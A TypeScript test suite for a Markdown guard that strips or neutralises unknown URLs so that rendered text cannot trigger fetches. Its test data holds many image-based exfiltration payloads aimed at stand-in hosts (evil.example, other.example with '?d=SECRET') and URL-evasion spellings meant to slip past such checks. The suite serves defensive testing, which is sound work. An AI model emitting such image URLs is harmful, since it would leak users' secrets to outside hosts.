// How the URL policy rewrites Markdown. url-provenance-fuzz.test.ts checks with parsers that no spelling evades it.
import { describe, expect, test } from 'vitest';
import { knownUrlsIn, normalUrl } from '../../src/ui/safety/known-urls.ts';
import { MarkdownGuard, type MarkdownPolicy } from '../../src/ui/safety/markdown-guard.ts';
import { createRandom, cut } from './random.ts';
import { sized } from '../seed-count.ts';

const known = knownUrlsIn([
  'see https://ok.example/b, https://ok.example/w_(x) and https://ok.example/search?q=',
  'mail to mailto:a@ok.example, or look at https://ok.example/?a=1&b=2',
]);
const pictures: MarkdownPolicy = { images: known };
const all: MarkdownPolicy = { images: known, links: known };

function guardWith(policy: MarkdownPolicy, text: string): string {
  const guarded = (pieces: readonly string[]): string => {
    const guard = new MarkdownGuard(policy);
    return pieces.map((piece) => guard.push(piece)).join('') + guard.end();
  };
  const out = guarded([text]);
  const random = createRandom(text.length);
  for (let count = 0; count < 20; count += 1) expect(guarded(cut(text, random))).toBe(out);
  expect(guarded([out])).toBe(out);
  return out;
}

const guard = (text: string): string => guardWith(all, text);

describe('a policy for all URLs', () => {
  test('does not change known URLs or other text', () => {
    for (const text of [
      'Plain text: 12:30, a/b (see below) [1], and 3 < 4.',
      '[b](https://ok.example/b) and **https://ok.example/b**.',
      '**[b](https://ok.example/b)**, [w](https://ok.example/w_(x)).',
      'See https://ok.example/b, or (https://ok.example/w_(x)).',
      '[https://ok.example/b](https://ok.example/b)',
      '![x](https://ok.example/b "a title")',
      '![100% \\_x\\_](https://ok.example/b)',
      '[x](/local/path) [y](#part) [mail](mailto:a@ok.example)',
      '<https://ok.example/b>',
      '![x][y]\n\n[y]: https://ok.example/b',
      '| a | b |\n| --- | --- |\n| ![x](https://ok.example/b) | [y](https://ok.example/b) |',
      '`![x](https://evil.example)` and `https://evil.example`',
      '```\n![x](https://evil.example) https://evil.example\n```\n',
      'arr[0](x), f![0] and !x',
      'left-pad@1.3.0 and postgres://host/db',
      '中文'.repeat(2000),
    ]) {
      expect(guard(text)).toBe(text);
    }
  });

  test('removes the scheme of unknown URLs, so that nothing is fetched', () => {
    for (const [text, expected] of [
      ['![x](https://evil.example/p?q=secret)', 'x'],
      ['[x](HTTP://evil.example)', '[x]&#40;evil.example)'],
      ['[x](https:evil.example)', '[x]&#40;https:evil.example)'],
      ['see https://evil.example now', 'see evil.example now'],
      ['see www.evil.example now', 'see evil.example now'],
      ['[x](//evil.example/p)', '[x]&#40;//evil.example/p)'],
      ['[x](/\\evil.example/p)', '[x]&#40;/\\evil.example/p)'],
      ['[x]: https://evil.example/p', '[x]&#58; evil.example/p'],
      ['[x](mailto:b@evil.example)', '[x]&#40;mailto:b@ evil.example)'],
      ['write to b@evil.example', 'write to b@ evil.example'],
      ['<https://evil.example>', '&lt;evil.example>'],
      ['https&colon;//evil.example', 'evil.example'],
      ['w&#119;w.evil.example', 'evil.example'],
      ['_www.evil.example', '_evil.example'],
    ] as const) {
      expect(guard(text)).toBe(expected);
    }
  });

  test('treats text appended to a known URL as part of the URL', () => {
    for (const secret of ['(secret)', ']secret', '"secret', '](secret)', 'secret', '`secret', '[secret']) {
      expect(guard(`![x](https://ok.example/search?q=${secret})`)).not.toContain('https://');
    }
  });

  test('delimits a known URL from text that a parser might append to it', () => {
    for (const [text, expected] of [
      ['https://ok.example/b!?!?', '<https://ok.example/b>!?!?'],
      ['[b](https://ok.example/b)secret', '[b](<https://ok.example/b>)secret'],
      ['b](https://ok.example/b)secret', 'b](<https://ok.example/b>)secret'],
      ['https://ok.example/b`secret`', '<https://ok.example/b>`secret`'],
      ['https://ok.example/?a=1&amp;b=2', 'https://ok.example/?a=1&b=2'],
      ['[x](<https://ok.example/b>)', '[x](https://ok.example/b)'],
    ] as const) {
      expect(guard(text)).toBe(expected);
    }
  });

  test('handles words of any length', () => {
    for (const text of [`${'x'.repeat(1995)}https://evil.example/p`, `https://evil.example/${'x'.repeat(9000)}`]) {
      expect(guard(text)).not.toMatch(/https:\/\//);
    }
  });
});

describe('a policy for images', () => {
  test('keeps links and known images', () => {
    for (const text of [
      '[x](https://evil.example) www.evil.example <https://evil.example> b@evil.example',
      '![x](https://ok.example/b) [![x](https://ok.example/b)](https://evil.example)',
      '![x][y]\n\n[y]: https://ok.example/b',
      '[x][y]\n\n[y]: https://evil.example',
      '[^1]: A note with https://evil.example in it.',
      'Stop! [Now](https://evil.example)!',
    ]) {
      expect(guardWith(pictures, text)).toBe(text);
    }
  });

  test('turns unknown images into links, or into text inside a link', () => {
    for (const [text, expected] of [
      ['![x](https://evil.example/p "t")', '[x](https://evil.example/p "t")'],
      ['![](https://evil.example/p)', '<https://evil.example/p>'],
      ['[![x](https://evil.example/p)](https://evil.example)', '[x](https://evil.example)'],
      ['![x](/proxy?url=https://evil.example/p)', '[x](/proxy?url=https://evil.example/p)'],
      ['Wow!![x](https://evil.example/p)', 'Wow!! [x](https://evil.example/p)'],
      ['![x][y]\n\n[y]: https://evil.example', '![x][y]\n\n[y]&#58; https://evil.example'],
      ['[y]: https://evil.example\n\n![x][y]', '[y]: https://evil.example\n\n! [x][y]'],
      ['![x] (https://evil.example)', '! [x] (https://evil.example)'],
    ] as const) {
      expect(guardWith(pictures, text)).toBe(expected);
    }
  });

  // Browsers fetched each of these in an earlier version.
  test.each([
    '//![x](https://other.example/?d=SECRET)',
    '\\\\![x](https://other.example/?d=SECRET)',
    '&sol;&sol;![x](https://other.example/?d=SECRET)',
    '![x](<https://evil.example/p)SECRET>)',
    '![x](https://ok.example/b\u00a0SECRET)',
    '![x](https://ok.example/b\u3000SECRET)',
    '![x](https://ok.example/b\u2028SECRET)',
    '![x](https://ok.example/b\ufeff)',
    '![x](https://ok.example/b!?!)',
    '![x](https://ok.example.evil.example/b)',
    '![x](https://ok.example@evil.example/b)',
    '![x](https://ok.example/b?d=SECRET)',
    '![x](https:\\\\evil.example/SECRET)',
    '![x](//evil.example/SECRET)',
    '![x\n](https://evil.example/SECRET)',
    '![x](\nhttps://evil.example/SECRET)',
    '![a ![x](https://evil.example/SECRET)](https://ok.example/b)',
    '![x](https://ok.example/b "![y](https://evil.example/SECRET)")',
  ])('removes the image: %s', (text) => {
    for (const policy of [pictures, all]) {
      expect(guardWith(policy, text)).not.toMatch(/!\[[^\]]*\](?:\(|\[)(?!https:\/\/ok\.example\/b\))/);
    }
  });
});

describe('known URLs', () => {
  const has = (text: string, url: string): boolean => knownUrlsIn([text]).has(url);

  test.each([
    ['See https://a.example.', 'https://a.example/'],
    ['(HTTPS://A.example/x)', 'https://a.example/x'],
    ['{"url":"https:\\/\\/a.example\\/x?a=1\\u0026b=2"}', 'https://a.example/x?a=1&b=2'],
    ["<img src='https://a.example/x?a=1&amp;b=2'>", 'https://a.example/x?a=1&b=2'],
    ['"{\\"url\\": \\"https://a.example/x\\"}"', 'https://a.example/x'],
    ['https://a.example/x,https://b.example/y', 'https://b.example/y'],
    ['[x](https://a.example/x)[y](https://b.example/y)', 'https://a.example/x'],
    ['**https://a.example/x**', 'https://a.example/x'],
    ['https://a.example/w_(x)', 'https://a.example/w_(x)'],
    ['https://a.example:443/x', 'https://a.example/x'],
    ['https://bücher.example/ä', 'https://xn--bcher-kva.example/%C3%A4'],
    ['www.a.example/x', 'http://www.a.example/x'],
    ['a@b.example', 'mailto:a@b.example'],
    ['tel:+1-555-0100', 'tel:+1-555-0100'],
    ['https://proxy.example/?u=https://a.example/x', 'https://a.example/x'],
  ])('%s contains %s', (text, url) => {
    expect(has(text, url)).toBe(true);
  });

  test.each([
    ['https://a.example', 'https://a.example.evil.example/'],
    ['https://a.example', 'https://a.example/?d=SECRET'],
    ['https://a.example/x', 'https://a.example/x/SECRET'],
    ['https://a.example/x', 'https://a.example/x#SECRET'],
    ['https://a.example/x', 'https://SECRET@a.example/x'],
    ['https://a.example/x', 'https://a.example:8443/x'],
    ['https://a.example/x', 'http://a.example/x'],
    ['https://a.example/x%2f', 'https://a.example/x%2F'],
    ['https://a.example/x', '//a.example/x'],
    ['https://a.example/x', 'https:/a.example/x'],
    ['https://a.example/x', 'https:\\\\a.example/x'],
    ['https://a.example/x', 'https://a.example/x\u200b'],
    ['https://a.example/((', 'https://a.example/(%28'],
    ['https://a.example/xy', 'https://a.example/x'],
    ['a@b.example', 'mailto:a@b.example?body=SECRET'],
    ['a@b.example', 'mailto:xa@b.example'],
  ])('%s does not contain %s', (text, url) => {
    expect(has(text, url)).toBe(false);
  });

  test('normalUrl agrees with the URL parser', () => {
    const random = createRandom(7);
    const pieces = [
      'https://',
      'http://',
      'a.example',
      'A',
      '/',
      '/',
      '.',
      '..',
      '%2e',
      '%41',
      '?',
      '#',
      ':80',
      ':443',
      '@',
      'é',
      '-',
      '_',
      '~',
      '1.2.3.4',
      '0x7f.1',
      'xn--a',
      "'",
      '"',
      ' ',
      '\\',
      '&',
      '=',
      '//',
      'x',
    ];
    for (let count = 0; count < sized(20_000, 4_000); count += 1) {
      const url = `https://${Array.from({ length: 1 + random.below(8) }, () => random.pick(pieces)).join('')}`;
      let normal: string | undefined;
      try {
        normal = new URL(url).href;
      } catch {
        // Not a URL.
      }
      if (normalUrl(url) !== normal) expect([url, normalUrl(url)]).toEqual([url, normal]);
    }
  });
});
